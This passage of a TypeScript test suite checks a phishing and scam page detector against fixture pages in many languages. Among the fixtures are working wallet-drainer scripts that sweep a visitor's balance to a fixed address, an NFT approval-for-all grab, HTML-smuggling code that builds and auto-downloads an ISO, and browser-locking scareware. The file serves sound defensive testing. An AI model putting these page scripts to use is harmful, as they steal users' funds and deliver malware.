    it('card fields a kit leaves unnamed and unlabelled (a 19-character numeric box, an "MM/YY" box) are card fields; an Arabic "card number" label is read, and a label written before its field names it', () => {
      const kit = judge('https://rewards-redeem.example/ar/redeem', '<title>Redeem points</title><form><label>الاسم على البطاقة</label><input name="n"><label>رقم البطاقة</label><input name="p" inputmode="numeric" maxlength="19"><label>تاريخ الانتهاء</label><input name="e" placeholder="MM/YY"><label>CVV</label><input name="v" maxlength="3"></form>');
      assert.ok(ids(kit).includes('credential-card'), JSON.stringify(ids(kit)));
      const labelled = judge('https://rewards-redeem.example/ar/redeem2', '<form><label>رقم البطاقة <input name="x1"></label></form>');
      assert.ok(ids(labelled).includes('credential-card'), JSON.stringify(ids(labelled)));
      // A label written before its field, naming no field (no for=), names the next one; a checkbox in between takes it.
      const sibling = judge('https://rewards-redeem.example/ar/redeem3', '<form><label>Card number</label><input name="x1"></form>');
      assert.ok(ids(sibling).includes('credential-card'), JSON.stringify(ids(sibling)));
      const taken = judge('https://rewards-redeem.example/ar/redeem4', '<form><label>Card number</label><input type="checkbox" name="save"><input name="q"></form>');
      assert.ok(!ids(taken).includes('credential-card'), JSON.stringify(ids(taken)));
      // A date of birth written day first ("DD/MM/YYYY", "JJ/MM/AAAA") holds "MM/YYYY" but is no card's expiry.
      const birth = judge('https://rewards-redeem.example/ar/redeem5', '<form><label>Date of birth <input name="dob" placeholder="DD/MM/YYYY"></label><label>Date de naissance <input name="naiss" placeholder="JJ/MM/AAAA"></label></form>');
      assert.ok(!ids(birth).includes('credential-card'), JSON.stringify(ids(birth)));
    });

    it('a card and a one-time code asked for together under pressure, on a page that names nobody, is phishing; a checkout asking for the card alone is not', () => {
      const form = '<form><label>Card number</label><input name="p" inputmode="numeric" maxlength="19"><label>Expiry</label><input name="e" placeholder="MM/YY"><label>One-time code (OTP) sent to your phone</label><input name="o"><button>Confirm</button></form>';
      decides('card-code-pressure', 'https://points-redeem.example/plus/redeem', `<title>Redeem Plus points</title><p>Your Plus points balance is about to expire. Redeem your points now.</p>${form}`);
      clean(judge('https://www.alpine-outfitters.example/checkout', '<title>Checkout | Alpine Outfitters</title><h1>Checkout</h1><p>Complete your order today to get free shipping.</p><form><label>Card number</label><input name="p" inputmode="numeric" maxlength="19"><label>Expiry</label><input name="e" placeholder="MM/YY"><button>Pay</button></form><footer>© Alpine Outfitters Ltd</footer>'));
    });

    it('money to receive through a bank the visitor picks, on a page that names nobody, is phishing; a shop\'s iDEAL bank choice and a marketplace\'s own payout help are not', () => {
      const banks = '<ul><li><a href="/b/pko">PKO BP</a></li><li><a href="/b/mbank">mBank</a></li><li><a href="/b/pekao">Pekao</a></li><li><a href="/b/ing">ING</a></li></ul>';
      decides('bank-picker-payout', 'https://olx-pl.bezpieczna-platnosc24.example/oferta/682215/odbierz-srodki', `<title>OLX - Odbierz środki | Bezpieczna płatność</title><p>Kupujący opłacił Twoje ogłoszenie. Aby otrzymać środki, wybierz swój bank i potwierdź dane.</p><p>850,00 zł</p>${banks}`);
      clean(judge('https://www.fietsenwinkel.example/afrekenen', `<title>Afrekenen | Fietsenwinkel</title><h1>Betalen met iDEAL</h1><p>Kies uw bank om de bestelling van € 849 te betalen.</p>${banks}<footer>© Fietsenwinkel B.V.</footer>`));
      clean(judge('https://help.marketly.example/payouts', `<title>Getting paid | Marketly Help</title><h1>Getting paid</h1><p>When the buyer has paid, you will receive the funds in your Marketly balance. To receive your payment in your bank account, choose your bank under Settings.</p><footer>© Marketly Ltd</footer>`));
    });

    it('investment schemes in Indonesian, Chinese and Arabic: returns beside a minimum deposit, a trading robot or scarcity', () => {
      decides('investment-scam', 'https://robot-cuan.example/', '<h1>Robot trading AI – profit 3% per hari</h1><p>Deposit minimal Rp 500.000. Hanya 20 slot tersisa hari ini.</p>');
      decides('investment-scam', 'https://lianghua-licai.example/', '<h1>量化机器人 日收益率 2.5%</h1><p>最低入金100 USDT，仅剩12个名额。</p>');
      decides('investment-scam', 'https://tadawul-ai.example/', '<h1>روبوت تداول ذكي</h1><p>أرباح 4% يوميًا. الحد الأدنى للإيداع 250 دولار. تبقى 9 مقاعد فقط.</p>');
    });

    it('one marker of a win and a fee before the prize is sent is an advance-fee scam (Malay), a testimonial that "thought it was a scam" not making it a warning; a shop\'s draw whose winners pay nothing is not', () => {
      decides('advance-fee', 'https://cabutan-1212.shop-my.example/tahniah.html', '<h1>TAHNIAH!</h1><p>Anda pemenang Hadiah Kedua Cabutan Bertuah 12.12 RM 38,000 tunai. Caj pendaftaran dan insurans hadiah RM 350 perlu dijelaskan sebelum hadiah dihantar ke alamat anda.</p><p>Tan W. L.: Ingat scam rupanya betul2 dapat kereta!</p>');
      clean(judge('https://www.kedai-elektrik-jaya.example/cabutan', '<title>Cabutan Bertuah | Kedai Elektrik Jaya</title><h1>Cabutan Bertuah 12.12</h1><p>Anda pemenang hadiah? Pemenang akan dihubungi melalui telefon dalam 7 hari. Tiada sebarang caj dikenakan kepada pemenang.</p><footer>© 2026 Kedai Elektrik Jaya</footer>'));
    });

    it('a daily return and a referral percentage written in Bengali digits, in a layout of middle dots, is an investment scheme; a bank\'s yearly savings rate is not', () => {
      decides('investment-scam', 'https://income-daily.example/invest', '<h1>ঘরে বসে প্রতিদিন ৩%–৫% লাভ · রেফার করলে ১০% বোনাস</h1><p>স্টার্টার প্ল্যান বিনিয়োগ ৳ ১,০০০ · দৈনিক লাভ ৳ ৩০ · ৬০ দিন · গোল্ড প্ল্যান বিনিয়োগ ৳ ২০,০০০ · দৈনিক লাভ ৳ ১,০০০ · ১২০ দিন · উইথড্র প্রতি শুক্রবার · ন্যূনতম উইথড্র ৳ ৫০০ · ডিপোজিট করতে নিচের নম্বরে সেন্ড মানি করুন, তারপর ফর্মে ট্রানজেকশন আইডি দিন এবং সাবমিট করুন</p>');
      clean(judge('https://www.padma-savings-bank.example/deposit', '<title>মেয়াদি সঞ্চয় | পদ্মা সেভিংস ব্যাংক</title><h1>মেয়াদি সঞ্চয় হিসাব</h1><p>বার্ষিক ৭.৫% মুনাফা · ন্যূনতম জমা ৳ ১০,০০০ · মেয়াদ ৩ বছর · বন্ধুকে রেফার করলে ৳ ২০০ উপহার</p><footer>© ২০২৬ পদ্মা সেভিংস ব্যাংক</footer>'));
    });

    it('celebrity advertorials: a deposit that turned into a fortune, an AI that trades, banks that tried to stop the interview; a broker with AI insights and a minimum deposit stays clean', () => {
      decides('investment-scam', 'https://news.morning-ledger.example/money/presenter-reveals', '<title>TV presenter reveals the platform banks want banned</title><h1>Presenter reveals his new source of income</h1><p>"I invested £250 out of curiosity and within 7 days it had turned into £3,940," he said. The platform uses artificial intelligence that trades Bitcoin and shares while you sleep.</p><p>The Bank of England called the studio and demanded the segment be removed.</p>');
      decides('investment-scam', 'https://diario-hoy.example/economia/revela', '<h1>El presentador revela su nueva fuente de ingresos</h1><p>"Invertí 250 euros por curiosidad y en un mes tenía más de 9.000", dijo.</p><p>Tras el programa, el Banco de España exige retirar la entrevista.</p>');
      clean(judge('https://www.northbridge-invest.example/platform', '<title>Northbridge Invest | Trading platform</title><h1>Invest with AI-powered market insights</h1><p>Minimum deposit £100. Capital at risk: 74% of retail CFD accounts lose money when trading with this provider.</p><footer>© 2026 Northbridge Invest Ltd, authorised and regulated by the FCA</footer>'));
    });

    const scamLookalikes: [string, string, string][] = [
      ['a lottery results page warning that winners never pay a fee', 'https://www.lotto-results.example/draw/2026-11-24', '<h1>Results of 24 November</h1><p>Jackpot €85,000,000, not won. Have you won? Check your ticket at any retailer.</p><p>The lottery never e-mails winners and never asks for a processing fee to be paid before a prize is released.</p>'],
      ['a shop returns policy', 'https://www.alpine-outfitters.example/returns', '<h1>Returns and refunds</h1><p>You are eligible for a refund within 30 days of delivery. Return shipping costs must be paid by the customer before we can accept the parcel; refunds are issued to the original card.</p>'],
      ['an ISP support page offering remote help', 'https://www.kestrelnet.example/help/remote', '<h1>Remote support</h1><p>Our technician may ask you to install TeamViewer QuickSupport and tell them your ID, so they can see your screen.</p><p>Call technical support: 0330 088 4141.</p>'],
      ['an Italian device-support page with a freephone number', 'https://assistenza.lumetra.example/contatti', '<title>Contatta l\'assistenza | Lumetra</title><h1>Contatta l\'assistenza</h1><p>Chiama l\'assistenza tecnica: 800 912 480 (numero verde), lun–sab 9–19.</p>'],
      ['a savings account with a guaranteed rate and a minimum deposit', 'https://www.banque-exemple.fr/epargne/livret', '<h1>Livret Épargne Plus</h1><p>Rendement garanti de 3 % par an. Dépôt minimum de 10 €. Votre épargne reste disponible à tout moment.</p>'],
      ['a robo-advisor whose algorithm invests automatically, with a minimum investment', 'https://www.steadyfolio.example/how-it-works', '<h1>Investing, done for you</h1><p>Our algorithm invests your money automatically in a diversified portfolio and rebalances it for you. Minimum investment of £500. Capital at risk: the value of investments can go down as well as up.</p>'],
      ['a regulated broker with its risk warning', 'https://www.albion-markets.example/cfds', '<p>CFDs are complex instruments: 71% of retail investor accounts lose money.</p><h1>Trade CFDs on 10,000 markets</h1><p>No guaranteed returns: past performance is not a reliable indicator. Open an account or try the demo.</p>'],
    ];
    for (const [what, url, body] of scamLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));

    it("a site dressed as a brand (its name in the title and the host) offering an installer is a fake installer site; a fan site sending visitors to the vendor's own download is not", () => {
      const fake = judge('https://teams-download.microsoft-meetings-app.example/en-us/download-app', '<title>Download Microsoft Teams Desktop and Mobile Apps | Microsoft Teams</title><h1>Download Microsoft Teams</h1><a class="btn" href="/files/MSTeamsSetup_x64.exe">Download for desktop</a>');
      assert.equal(fake.verdict, 'malicious', JSON.stringify(ids(fake)));
      assert.ok(fake.decidedBy?.includes('combo:brand-dressed-download'));
      assert.deepEqual(fake.categories, ['malware']);
      const fan = judge('https://teams-tips.example/getting-started', '<title>Getting started with Microsoft Teams – Teams Tips</title><h1>Teams Tips</h1><p>Install the desktop app from Microsoft.</p><a href="https://go.microsoft.com/fwlink/?linkid=2187327">Download Microsoft Teams</a>');
      assert.equal(fan.verdict, 'clean', JSON.stringify([fan.decidedBy, fan.signals.map((x) => [x.id, x.evidence])]));
      // The brand's name split by the host ("notepad-plusplus") is no brand-in-hostname, but a host named after the
      // page's topic (downloads) is a host a kit would choose.
      const topic = judge('https://notepad-plusplus-downloads.example/downloads/v8.8/', '<title>Notepad++ v8.8 Download | Notepad++</title><h1>Download Notepad++ v8.8</h1><a class="btn" href="/files/npp.8.8.Installer.x64.exe">Installer 64-bit x64</a>');
      assert.ok(topic.decidedBy?.includes('combo:brand-dressed-download'), `${topic.verdict} ${JSON.stringify(ids(topic))}`);
    });

    it("closing-down prices with card fields on a throwaway shop that does not name its host is a fake shop; a shop's own clearance sale is not", () => {
      const checkout = '<div id="co"><h3>Checkout</h3><input placeholder="Email"><input placeholder="Card number" autocomplete="cc-number"><input placeholder="CVV" autocomplete="cc-csc"><button>Pay now</button></div>';
      const outlet = judge('https://sandal-brand-outlet-sale.shop/collections/all', `<title>Sandal Outlet | Up To 80% Off | Closing Down Sale</title><div>CLOSING DOWN SALE — ALL ITEMS UP TO 80% OFF</div>${checkout}`);
      assert.ok(ids(outlet).includes('fake-shop-pricing'), JSON.stringify(ids(outlet)));
      assert.equal(outlet.verdict, 'malicious');
      assert.deepEqual(outlet.categories, ['scam']);
      const own = judge('https://www.hartwell-shoes.co.uk/clearance', `<title>Clearance – up to 80% off | Hartwell Shoes</title><h1>Hartwell Shoes</h1><div>Closing down sale: everything must go</div>${checkout}`);
      assert.equal(own.verdict, 'clean', JSON.stringify(ids(own)));
    });

    it('drainers: an amount derived from the balance with nothing to type (EVM and Solana); rights over NFTs beside a lure; a phrase box on a sync page', () => {
      const evm = judge('https://steth-migrate.example/', `<h2>Migrate</h2><button id="m">Connect</button><script>m.onclick=async()=>{const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];const bal=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));const v=bal-10n**15n;await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x4E2c1b7D9a3F5e8C0b2D4f6A8c1E3a5B7d9F0e21',value:'0x'+v.toString(16)}]});}</script>`);
      assert.ok(ids(evm).includes('wallet-balance-sweep'));
      assert.ok(evm.decidedBy?.includes('combo:wallet-balance-sweep'));
      const sol = judge('https://rewards-claim.example/', `<h1>Claim your airdrop</h1><script>b.onclick=async()=>{const p=window.phantom?.solana;const {publicKey}=await p.connect();const bal=await conn.getBalance(publicKey);const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:publicKey,toPubkey:RCV,lamports:bal-10000}));await p.signAllTransactions([tx]);}</script>`);
      assert.deepEqual(sol.categories.slice(0, 1), ['cryptodrainer']);
      const nft = judge('https://nft-rewards.example/claim', `<h1>Claim your free NFT airdrop</h1><script>connect.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:COLL,data:'0xa22cb465'+OP+'1'.padStart(64,'0')}]});}</script>`);
      assert.ok(ids(nft).includes('wallet-lure-text') && ids(nft).includes('wallet-approval-request'));
      assert.ok(nft.decidedBy?.includes('combo:wallet-lure-approval'));
      // TON: the balance from a public API, a share of a field of it sent through TonConnect.
      const ton = judge('https://voucher-claim.example/', `<h1>Your voucher is ready</h1><script>const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://voucher-claim.example/m.json'});cl.onclick=async()=>{const r=await fetch('https://toncenter.com/api/v2/getAddressBalance?address='+ui.account.address).then(x=>x.json());const amt=(BigInt(r.result)*97n/100n).toString();await ui.sendTransaction({validUntil:0,messages:[{address:'UQB3ncyBUTjZUA5EnFKR5_EnOMI9V1tTEAAPaiU71gc4TiUt',amount:amt}]});};</script>`);
      assert.ok(ids(ton).includes('wallet-balance-sweep'), JSON.stringify(ids(ton)));
      const sync = judge('https://wallet-sync.example/import', '<h2>Sync your wallet</h2><textarea id="p" placeholder="Phrase"></textarea><p>Typically 12 (sometimes 24) words separated by single spaces</p><button>SYNC</button>');
      assert.ok(ids(sync).includes('credential-seed-phrase'));
      assert.equal(sync.verdict, 'malicious');
    });

    it('drainers: a "claim fee" sent as a plain transfer to the page\'s own address beside a claim lure; a mint with call data is not that', () => {
      const fee = judge('https://token-claim.example/', `<h1>Claim your airdrop</h1><p>Pay the 0.01 ETH network fee to receive 5,000 tokens.</p><script>c.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:'0x2D9b4e6F8a0c1E3b5D7f9A1c3E5b7D9f0A2c4E6b',value:'0x2386f26fc10000'}]});}</script>`);
      assert.ok(ids(fee).includes('wallet-plain-transfer'));
      assert.ok(fee.decidedBy?.includes('combo:wallet-lure-approval'));
      const mint = judge('https://www.shorecats.example/mint', `<h1>Public mint is live</h1><p>0.05 ETH each.</p><script>m.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:MINTER,value:'0xb1a2bc2ec50000',data:'0xa0712d68'+qty}]});}</script>`);
      clean(mint);
    });

    it('malware: a password shown beside an archive (its word may name the file first); a Blob saved with FileSaver; romance and equipment fee scams', () => {
      const shown = judge('https://free-soft.example/app', '<h1>App Pro full</h1><a href="/f/AppPro.rar">Download</a><p>Password: 2026</p>');
      assert.match(shown.signals.find((x) => x.id === 'malware-lure-text')?.evidence ?? '', /archivePassword/);
      assert.equal(shown.verdict, 'malicious');
      const helpZip = judge('https://docs.acme-notes.example/start', '<h1>Getting started</h1><p>Password: at least 8 characters.</p><a href="/f/samples.zip">Sample files</a>');
      clean(helpZip);
      // The password word may name what it opens before the colon (Tagalog "Password ng zip:").
      const named = judge('https://free-soft.example/app-ph', '<h1>App Pro full</h1><a href="/f/AppPro.rar">I-download</a><p>Password ng zip: pista2026</p>');
      assert.match(named.signals.find((x) => x.id === 'malware-lure-text')?.evidence ?? '', /archivePassword/);
      const saved = judge('https://doc-view.example/', `<script>var b=new Blob([bytes]);saveAs(b, "Payment_Details.iso");</script>`);
      assert.ok(ids(saved).includes('html-smuggling'));
      // An ISO image built from base64 under a computed name: its signature sits after the 32 KiB system area.
      const iso = Buffer.concat([Buffer.alloc(0x8000), Buffer.from('\x01CD001\x01', 'latin1'), Buffer.alloc(2042)]).toString('base64');
      const built = judge('https://docs-portal.example/ksa/INV-8812.html', `<h3>Downloading your invoice</h3><script>var d="${iso}";function go(){var s=atob(d),b=new Uint8Array(s.length);for(var i=0;i<s.length;i++)b[i]=s.charCodeAt(i);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b],{type:'application/octet-stream'}));a.download='INV-'+Date.now()+'.iso';a.click()}setTimeout(go,2100)</script>`);
      assert.ok(ids(built).includes('html-smuggling'), JSON.stringify(ids(built)));
      const romance = judge('https://my-love-letters.example/', '<p>My darling, I have saved for months so I can come to see you.</p><p>The visa fee is $1,800 and I must pay it this week: please send the money via Western Union to my agent.</p>');
      assert.ok(romance.decidedBy?.includes('combo:advance-fee'));
      const equipment = judge('https://careers-remote.example/onboarding', '<h1>Welcome aboard</h1><p>We are pleased to offer you the position of Remote Data Clerk.</p><p>Please purchase your laptop and software from our approved vendor; you will be reimbursed with your first salary.</p>');
      assert.ok(equipment.decidedBy?.includes('combo:advance-fee'));
    });

    it('drainers: a project named on a host it does not own, a claim lure and a "Connect wallet" button, the wallet code in an external script; scareware that speaks through alert()', () => {
      const ext = judge('https://lido-rewards-claim.example/', '<title>Lido | Claim stETH rewards</title><h1>Lido airdrop</h1><p>Eligible wallets can claim their allocation before the snapshot closes.</p><button id="c">Connect wallet</button><script src="/static/app.min.js"></script>');
      assert.ok(ids(ext).includes('wallet-connect-cta') && ids(ext).includes('wallet-lure-text'));
      assert.ok(ext.decidedBy?.includes('combo:brand-wallet-lure'));
      const own = judge('https://stake.lido.fi/rewards', '<title>Lido | Claim stETH rewards</title><h1>Lido airdrop</h1><p>Eligible wallets can claim their allocation.</p><button id="c">Connect wallet</button><script src="/static/app.min.js"></script>');
      clean(own);
      const news = judge('https://www.chainwire.example/news/lido-airdrop', '<title>Lido airdrop: what we know</title><h1>Lido airdrop</h1><p>Eligible wallets can claim at the official site.</p><a href="https://stake.lido.fi/">Connect wallet on lido.fi</a>');
      clean(news);
      const alerts = judge('https://pc-alert.example/', '<h1>Windows Security</h1><script>setInterval(function(){alert("Your computer has been blocked. Trojan spyware detected. Call Microsoft Support: +1-888-555-0199")},3000)</script>');
      assert.ok(alerts.decidedBy?.includes('combo:tech-support-scam'));
      // A locker names trojans, malware and ransomware as a write-up about it does; the write-up does not trap its reader.
      const threats =
        '<p>Trojan spyware and malware were detected on this computer. Ransomware may encrypt your files. Other trojans found: Trojan.Win32.Agent, adware.</p>' +
        '<p>Your browsing history, saved passwords and banking details are being sent to a remote server. The infection was found in system files that cannot be repaired automatically.</p>' +
        '<p>Threats found: Trojan.Spy.Banker, Ransom.Locky, Adware.Popups. Your IP address and location have been exposed. Continuing to use this computer may cause further data loss.</p>';
      const locker = judge('https://defender-warn.example/', `<title>Windows Defender Security Center</title><h1>Access to this PC has been blocked for security reasons</h1>${threats}<p>Do not restart your computer. Call Windows Support: +1-844-555-0139</p><script>document.documentElement.requestFullscreen();window.onbeforeunload=function(){return 'Are you sure?'}</script>`);
      assert.ok(locker.decidedBy?.includes('combo:tech-support-scam'), JSON.stringify(ids(locker)));
      const writeUp = judge('https://www.pcnews.example/how-lockers-work', `<title>How browser lockers work</title><h1>Access to this PC has been blocked for security reasons: the scam explained</h1>${threats}<p>Scammers then ask victims to call a fake support number such as +1-844-555-0139. Do not restart your computer is another phrase they use.</p>`);
      clean(writeUp);
      // One threat word is not a write-up, though the rendered DOM and the raw document both carry it.
      const renewal = '<h2>Thank you for your order</h2><p>Your Total Tech Support membership has been successfully renewed and charged to your account on file.</p><table><tr><td>Firewall &amp; Anti-Malware Add-on</td><td>$0.00</td></tr><tr><td>Total charged</td><td>$399.99</td></tr></table><p>If you did not authorize this transaction and want a full refund, call our Refund Desk within 24 hours: +1 (808) 555-0191.</p>'.repeat(2);
      const refund = judge('https://billing-center.renewals-desk.example/invoice/GS-4481', `<title>Invoice GS-4481</title>${renewal}`);
      assert.ok(ids(refund).includes('tech-support-text'), JSON.stringify(ids(refund)));
    });

    const walletLookalikes: [string, string, string][] = [
      ['a bridge whose Max button leaves gas and sends what the visitor typed', 'https://app.tidebridge.example/', `<input id="amount" inputmode="decimal" placeholder="0.0"><button id="max">Max</button><script>max.onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const bal=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));amount.value=String(Number(bal-10n**15n)/1e18)};go.onclick=async()=>{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:BRIDGE,value:toWei(amount.value)}]})}</script>`],
      ['an NFT marketplace listing (approval for all to its conduit, a Seaport order)', 'https://www.tidepool-nft.example/item/44', `<h1>Shore #44</h1><p>Listing requires a one-time approval; you can revoke the approval at any time.</p><input id="price" value="0.8"><script>list.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:COLL,data:'0xa22cb465'+CONDUIT+'1'.padStart(64,'0')}]});const typed={primaryType:'OrderComponents',message:order};await ethereum.request({method:'eth_signTypedData_v4',params:[me,JSON.stringify(typed)]});}</script>`],
      ['a swap approving the exact amount', 'https://app.lumaswap.example/', `<input id="amt" value="100"><script>swap.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:USDC,data:'0x095ea7b3'+hex(ROUTER)+hex(amount)}]});}</script>`],
      ['a project claim page on its own domain signing terms', 'https://claim.harborlend.example/', `<h1>Check your eligibility</h1><p>Eligible wallets can claim HBL tokens.</p><script>c.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'personal_sign',params:['I accept the terms',me]});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:DISTRIBUTOR,data:claimData}]});}</script>`],
      ['a donation page sending what the visitor typed', 'https://www.instituto-mares.example/doe', `<h1>Doe ETH</h1><input id="amount" placeholder="0.0"><script>d.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:'0x4D2c8F1a6b3E9d7C5a0B2e4F6c8D1a3E5b7C9f02',value:toHex(amount.value)}]});}</script>`],
      ['a wallet help article with a feedback box', 'https://support.foxhollow.example/hc/articles/srp', '<h1>What is a Secret Recovery Phrase?</h1><p>Your Secret Recovery Phrase is 12 words. Never enter your recovery phrase on a website: no support agent will ask for it.</p><form><textarea></textarea><button>Send feedback</button></form>'],
      ['developer docs about private keys with an API key name box', 'https://docs.cloudkeys.example/keys', '<h1>Create a private key</h1><p>Generate a private key for signing webhooks. Enter a name for the key:</p><input name="key_name" placeholder="API key name"><p>Store the private key safely.</p>'],
    ];
    for (const [what, url, body] of walletLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));

    it('safe-account: moving your own money to a "protected account", account details given, under secrecy; a bank\'s warning about it stays clean', () => {
      decides('safe-account', 'https://fraud-case-centre.example/case/FR-1', '<title>Fraud Case FR-1 | Customer Protection Unit</title><p>Your current account has been accessed by an unauthorised third party, a case of fraud under investigation.</p><p>Your funds must be transferred to a temporary protected account while your account is reissued.</p><p>Sort code 04-00-75 Account number 19928834</p><p>Do not discuss this case with branch staff or anyone else.</p>');
      clean(judge('https://www.harbor-state-bank.example/security/safe-account-scams', '<title>Safe account scams | Harbor State Bank</title><h1>Safe account scams</h1><p>Fraudsters pretend to be from our fraud team or the police and tell you your account is at risk. They ask you to move your money to a safe account. We will never ask you to move money to a safe account. Do not discuss your security details with anyone who calls you. If in doubt, hang up and call the number on your card. Report fraud and scams to us straight away.</p>'));
      // A warning that quotes the scammer's call, sort code and all, is still a warning.
      const quoting = judge('https://www.riverside-bank.example/security/safe-account', '<title>Safe account scams | Riverside Bank</title><h1>Safe account scams</h1><p>Criminals pretend to be our fraud team and persuade you to move your money to a safe account. We will never ask you to do this.</p><p>What it sounds like: “To protect your savings, transfer everything to the safe account we set up for you, sort code 60-83-71, account 20584417.”</p><p>Hang up and call the number on your card, from another phone if you can. Never share one-time passcodes and never install screen-sharing apps because a caller asked you to. Fraudsters can make any number appear on your phone. If you have already paid, call us immediately.</p>');
      clean(quoting);
      assert.ok(!ids(quoting).includes('safe-account-text'), JSON.stringify(ids(quoting)));
    });

    it('payee-change: new bank details for invoices with a request not to call to check them (invoice redirection); a plain change notice is not', () => {
      decides('payee-change', 'https://hartwell-supplies-accounts.example/notice', '<title>Hartwell Building Supplies - Notice of change of bank details</title><p>Please be advised that we have moved our business banking. All outstanding and future invoices should be paid to the account below.</p><p>Sort code 60-83-71 Account no. 20584417</p><p>Please do not call our office regarding this change as our phone lines are being migrated; reply to this email only.</p>');
      clean(judge('https://www.hartwell-supplies.example/news/new-bank', '<title>Hartwell Building Supplies - Change of bank details</title><p>We have moved our business banking. Invoices from 1 March should be paid to the account on the invoice. If anyone asks you to pay elsewhere, call us on the number you know before paying.</p>'));
    });

    it('payout-promise-text: someone "sent you $486.19" to deposit through a bank the visitor picks (an e-Transfer kit)', () => {
      const r = judge('https://etransfer-deposit.example/deposit/?id=CA1', '<title>Deposit</title><p>CANADA REVENUE AGENCY sent you $486.19 (CAD). Deposit your money.</p><p>Select your financial institution:</p><a href="/rbc">RBC Royal Bank</a><a href="/td">TD</a><a href="/bmo">BMO</a>');
      assert.ok(ids(r).includes('payout-promise-text') && ids(r).includes('bank-picker-text'), JSON.stringify(ids(r)));
      assert.notEqual(r.verdict, 'clean');
    });

    it('unlicensed-sale: credit repair that sells a new credit identity (CPN) and guarantees to erase bankruptcies', () => {
      decides('unlicensed-sale', 'https://creditfix-now.example/', '<title>Credit Fix Now – Raise your score 150+ points in 30 days</title><p>Bad credit? Bankruptcy? We erase it. Guaranteed. Our legal team removes collections, late payments and bankruptcies from your file — 100% legally.</p><p>New credit identity (CPN) option available.</p>');
      clean(judge('https://www.credit-counsel.example/rebuild', '<title>Rebuilding your credit | Credit Counsel</title><p>No company can legally remove accurate negative information from your credit report. Pay on time and keep balances low.</p>'));
    });

    it('fee-to-crypto-address: a withdrawal tax to pay to a crypto address before funds are released (a fake exchange)', () => {
      decides('fee-to-crypto-address', 'https://app.coinvexa.example/assets/withdraw', '<title>CoinVexa | Withdraw</title><p>Withdrawal blocked: tax clearance missing. To release your funds, deposit the capital gains tax of 4,180 USDT to the address below.</p><p>TVfR2mQ9kXz7bLp3NcW8yH1uJ5gD4sA6eT</p>');
      clean(judge('https://pay.coinshop.example/invoice/77', '<title>Invoice 77 | CoinShop</title><p>Pay 0.002 BTC to the address below to complete your order.</p><p>bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>'));
    });

    it('scam text in more languages: an Italian PC "infetto da 5 virus" with a number to call, a German release fee after a recovery promise, a Turkish lottery prize with tax to pay first; refusing platform payments is untraceable', () => {
      decides('tech-support-scam', 'https://avviso-sicurezza.example/scansione', "<title>Il tuo PC è infetto da 5 virus!</title><p>Il tuo PC è infetto da 5 virus! Il tuo abbonamento antivirus è scaduto.</p><p>Chiama l'assistenza tecnica gratuita: 800 912 447</p>");
      decides('advance-fee', 'https://www.kryptoverlust-hilfe.example/', '<title>Geld zurück nach Krypto-Betrug? | Fund Recovery Experts</title><p>Wir holen Ihr Geld zurück. Auszahlung auf Ihr Konto – nach Zahlung einer einmaligen Bearbeitungsgebühr für die Freigabe.</p>');
      decides('advance-fee', 'https://piyango-ikramiye.example/sorgula', '<title>İkramiye Sorgulama</title><p>Cep telefonu numaranız yılbaşı çekilişinde ikramiye kazandı! İkramiyenin hesabınıza aktarılabilmesi için %2 gelir vergisi önceden ödenmesi gerekmektedir.</p>');
      assert.ok(ids(judge('https://villa-mare.example/prenota', '<p>Per motivi di sicurezza non accettiamo pagamenti tramite Airbnb o Booking. Effettua un bonifico istantaneo.</p>')).includes('untraceable-payment-text'));
    });

    it('a recovery offer an article reports ("firms contact you offering to get your money back") leaves it an article; a recovery service selling its fee is not one', () => {
      clean(judge('https://www.moneywise-regulator.example/scams/relationship-investment-scams', '<title>Relationship investment scams | MoneyWise</title><p>Scammers build a friendship online, then introduce you to a trading platform. When you try to withdraw you are asked to pay "taxes", "fees" or "deposits" before the funds can be released.</p><h2>Warning signs</h2><p>You must pay before you can withdraw. "Recovery" firms contact you offering to get your money back for a fee. Report scams and fraud to the police.</p>'));
      // A regulator quoting a recovery room's pitch ("we have a 97% success rate") quotes it.
      clean(judge('https://www.securities-board.example/fraud/recovery-room-scams', '<title>Recovery room scams | Securities Board</title><h1>Recovery room scams: when fraudsters come back for more</h1><p>People who lost money to an investment fraud are often targeted a second time.</p><h2>What the pitch sounds like</h2><p>"We have located your stolen funds. To release the $86,400 to you we need a refundable processing fee of $1,490, payable in Bitcoin."</p><p>"We work with the FBI and Interpol and have a 97% success rate. No recovery, no fee."</p><h2>Warning signs</h2><p>You are asked to pay upfront. Report the contact to your securities regulator.</p>'));
      decides('advance-fee', 'https://chargeback-recovery-pros.example/', '<title>Chargeback Recovery Pros – Get Your Money Back From Online Scams</title><p>Lost money to a fake shop or crypto scam? We get it back. Our analysts trace the funds. Pay the one-time case filing fee of $499 (refunded in full when recovery completes). Receive your money back.</p>');
    });

    it('Urdu: a registration fee sent to a mobile wallet with the receipt\'s screenshot over WhatsApp (a fake income-support instalment) is a scam', () => {
